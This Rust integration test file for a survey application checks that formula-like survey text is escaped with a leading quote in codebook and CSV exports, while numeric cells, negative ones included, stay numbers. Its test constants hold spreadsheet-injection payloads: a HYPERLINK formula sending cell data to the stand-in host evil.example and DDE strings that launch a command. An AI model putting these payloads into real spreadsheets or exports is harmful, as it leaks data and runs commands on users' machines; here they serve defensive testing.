//! Spreadsheet safety: researcher-supplied text cannot run as a formula in the codebook or
//! a CSV, while numeric cells (negative unbiased values included) stay numbers.

use crate::common::spawn_app;
use serde_json::{json, Value};

const FORMULAS: [&str; 5] = [
    "=HYPERLINK(\"http://evil.example/?leak=\"&A1, \"Click for results\")",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=1+1",
];

#[tokio::test]
async fn formula_like_survey_text_is_neutralised_in_the_codebook() {
    let app = spawn_app().await;
    let token = app.researcher_with_token("owner@example.org").await;
    let questions: Vec<Value> = FORMULAS
        .iter()
        .map(|text| json!({"text": text, "epsilon": 1.0}))
        .collect();
    let created = app
        .create_survey(
            &token,
            &json!({"title": FORMULAS[0], "description": FORMULAS[3], "questions": questions}),
        )
        .await;
    assert_eq!(created.status(), 201);
    let slug = created.json::<Value>().await.unwrap()["slug"]
        .as_str()
        .unwrap()
        .to_owned();

    let codebook: Value = app
        .owner_get(&token, &format!("/api/surveys/{slug}/codebook.json"))
        .await
        .json()
        .await
        .unwrap();
    assert_eq!(codebook["survey"]["title"], format!("'{}", FORMULAS[0]));
    assert_eq!(
        codebook["survey"]["description"],
        format!("'{}", FORMULAS[3])
    );
    for (question, formula) in codebook["questions"]
        .as_array()
        .unwrap()
        .iter()
        .zip(FORMULAS)
    {
        assert_eq!(question["text"], format!("'{formula}"));
    }
}

#[tokio::test]
async fn csv_cells_never_start_a_formula_and_negative_unbiased_values_stay_numbers() {
    let app = spawn_app().await;
    let (token, slug, ids) = app.open_survey(&[0.5, 1.0]).await;
    // Ten responses (k = 10), released at close, whose exports are made then.
    for i in 0..10 {
        let report = u8::from(i % 3 == 1);
        app.submit_ok(
            &slug,
            json!({ ids[0].to_string(): report, ids[1].to_string(): report }),
        )
        .await;
    }
    app.close(&token, &slug).await;
    let csv = app.export_csv(&token, &slug).await;
    let mut negative = 0;
    for line in csv.lines().skip(1) {
        let cells: Vec<&str> = line.split(',').collect();
        assert_eq!(cells.len(), 8, "{line}");
        assert!(
            cells[0].bytes().all(|b| b.is_ascii_hexdigit()),
            "response ids are plain hex: {line}"
        );
        assert_eq!(
            cells[6..],
            ["yes_no", ""],
            "type, and no option values: {line}"
        );
        for number in &cells[1..6] {
            assert!(number.parse::<f64>().is_ok(), "{number} is a number");
            assert!(!number.starts_with('\''), "numbers are not escaped");
        }
        if cells[5].parse::<f64>().unwrap() < 0.0 {
            negative += 1;
        }
    }
    assert!(negative > 0, "a report of 0 has a negative unbiased value");
}
